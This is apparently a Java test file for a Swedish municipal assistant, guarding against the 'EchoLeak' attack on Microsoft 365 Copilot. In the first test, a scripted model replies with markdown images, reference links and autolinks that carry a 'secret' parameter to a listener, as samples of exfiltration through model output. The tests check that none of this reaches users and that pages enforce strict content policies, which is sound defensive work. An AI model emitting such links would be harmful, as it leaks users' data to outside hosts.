package se.lotsen.security.incidents;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import se.lotsen.knowledge.PagePreview;
import se.lotsen.security.Assistant;
import se.lotsen.security.incidents.Caller.Reply;
import se.lotsen.testing.ServiceTest;
import se.lotsen.testing.model.ModelServer;
import se.lotsen.testing.model.Script;
import se.lotsen.testing.model.Wire;

/** S26, M365 Copilot CVE-2025-32711 "EchoLeak": ordinary prose made the model give out an address that the browser fetched by itself. */
@ServiceTest
class S26EchoLeakTests extends TownTests {
    /** A picture, with a policy of its own that is stricter still. */
    private static final String LOGO = "/look/logo";

    @Test
    void noFormOfALinkOrAPictureReachesACitizenFromAModel() throws Exception {
        try (Inside listener = new Inside();
                ModelServer model = ModelServer.start(request -> Script.saying(
                        "Avgiften står här [1]. ![logga][ref] Se [sidan][ref] [1]. <" + listener.address()
                                + "/auto?d=hemligt> [1]. [ref]: " + listener.address()
                                + "/bild.png?d=hemligt\n\n[klicka](" + listener.address()
                                + "/l?d=hemligt) [1]. www.foreign.example/x [1]."));
                Assistant assistant = Assistant.setup().model(model, Wire.OPENAI).start()) {
            for (String question : List.of("vad kostar förskolan", "när öppnar biblioteket",
                    "hur söker jag bygglov")) {
                assertThat(assistant.ask(question).readable()).noneMatch(text -> text.contains("127.0.0.1")
                        || text.contains("foreign.example") || text.contains("](") || text.contains("![")
                        || text.contains("[ref]") || text.contains("hemligt"));
            }
            assertThat(model.count()).isPositive();
            assertThat(listener.asked()).isEmpty();
        }
    }

    @Test
    void noPageOfOursLoadsAnythingFromElsewhere() {
        for (Route route : Route.listed()) {
            if (route.reads() && route.isFor(Route.PUBLIC) && route.isCallable()
                    && !route.path().startsWith("/actuator") && !route.path().equals(LOGO)) {
                Reply reply = town.caller.get(route.at("forskola-avgift"), Town.nobody());
                assertThat(reply.head().toLowerCase(Locale.ROOT)).as(route.toString()).contains(
                        "default-src 'none'", "img-src 'self'", "connect-src 'self'",
                        "referrer-policy: [no-referrer]");
            }
        }
        assertThat(town.caller.get(LOGO, Town.nobody()).head()).contains("default-src 'none'", "sandbox");
        assertThat(PagePreview
                .of("x", "x",
                        "![a](https://foreign.example/a.png?d=1) ![b][r]\n\n[r]: //foreign.example/b.png")
                .html()).noneMatch(html -> html.contains("<img"));
    }
}
